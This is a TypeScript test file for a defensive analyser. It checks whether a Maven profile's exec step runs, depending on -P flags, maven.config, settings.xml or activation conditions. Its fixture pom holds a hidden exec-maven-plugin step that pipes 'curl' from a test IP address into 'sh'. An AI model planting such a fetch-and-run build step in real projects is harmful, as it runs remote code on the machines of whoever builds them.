// A Maven build runs a profile's plugins only when the profile is active: named by `-P`, by the project's
// `.mvn/maven.config` or the user's `~/.m2/settings.xml`, or activated by a condition (taken to hold). An exec
// step in a `bootstrap` profile is not what `mvn test` runs; named, or under a condition, it is. The reader is a
// table in memory (fileProject): a project per folder, the user's home `/home/u`.
import { beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { fileProject } from '../testdata/file-project';
import type { ScriptFile } from '../types';
import { withoutInactiveProfiles } from './maven-profiles';

const P = '/home/u/proj';
const text = (t: string): ScriptFile => ({ kind: 'text', text: t });

const EXEC = [
  '<build><plugins><plugin>',
  '  <groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId>',
  '  <executions><execution><id>fetch</id><phase>validate</phase><goals><goal>exec</goal></goals>',
  '  <configuration><executable>sh</executable><arguments><argument>-c</argument>',
  '  <argument>curl -s https://203.0.113.7/x | sh</argument></arguments></configuration>',
  '  </execution></executions>',
  '</plugin></plugins></build>',
].join('\n');
const pom = (profile: string) =>
  `<project><modelVersion>4.0.0</modelVersion><groupId>a</groupId><artifactId>app</artifactId><version>1</version>\n<profiles>\n${profile}\n</profiles>\n</project>\n`;

const FILES: Record<string, ScriptFile> = {
  [`${P}/plain/pom.xml`]: text(pom(`<profile><id>bootstrap</id>${EXEC}</profile>`)),
  [`${P}/cond/pom.xml`]: text(
    pom(
      `<profile><id>ci</id><activation><property><name>env.CI</name></property></activation>${EXEC}</profile>`,
    ),
  ),
  [`${P}/byconfig/pom.xml`]: text(pom(`<profile><id>bootstrap</id>${EXEC}</profile>`)),
  [`${P}/byconfig/.mvn/maven.config`]: text('-B -Pbootstrap\n'),
  [`${P}/bysettings/pom.xml`]: text(pom(`<profile><id>release</id>${EXEC}</profile>`)),
  [`${P}/commented/pom.xml`]: text(pom(`<!-- <profile> --><profile><id>bootstrap</id>${EXEC}</profile>`)),
  '/home/u/.m2/settings.xml': text(
    '<settings><activeProfiles><activeProfile>release</activeProfile></activeProfiles></settings>\n',
  ),
};

beforeAll(async () => {
  await loadShellParser();
});

const { at, codes } = fileProject(P, FILES);
const runsExec = (dir: string, command: string) => codes(at(dir, command)).includes('dynamic-script');

describe("a profile's plugins run only when the profile is active", () => {
  it.each([
    ['plain', 'mvn test'],
    ['plain', 'mvn -q -B verify'],
    ['plain', 'mvn -Pother test'],
    ['plain', 'mvn -P !bootstrap test'],
    ['commented', 'mvn test'],
  ])('quiet: %s: %s', (dir, command) => {
    expect(runsExec(dir, command)).toBe(false);
  });

  it.each([
    ['named by -P', 'plain', 'mvn -Pbootstrap test'],
    ['named in a list', 'plain', 'mvn -P other,bootstrap test'],
    ['named by the long option', 'plain', 'mvn --activate-profiles=bootstrap test'],
    ['named at run time', 'plain', 'mvn -P "$PROFILE" test'],
    ['another settings file', 'plain', 'mvn -s ci-settings.xml test'],
    ['activated by a condition', 'cond', 'mvn test'],
    ["named in the project's maven.config", 'byconfig', 'mvn test'],
    ["an active profile of the user's settings", 'bysettings', 'mvn test'],
  ])('%s: %s: %s', (_n, dir, command) => {
    expect(runsExec(dir, command)).toBe(true);
  });
});

describe('the pom as read', () => {
  it('keeps the text whole when a comment or a profile is left open', () => {
    const open = '<project><profiles><profile><id>x</id><!-- </profile></profiles></project>';
    expect(withoutInactiveProfiles(open, new Set())).toBe(open);
    const unclosed = '<project><profiles><profile><id>x</id></profiles></project>';
    expect(withoutInactiveProfiles(unclosed, new Set())).toBe(unclosed);
  });
});
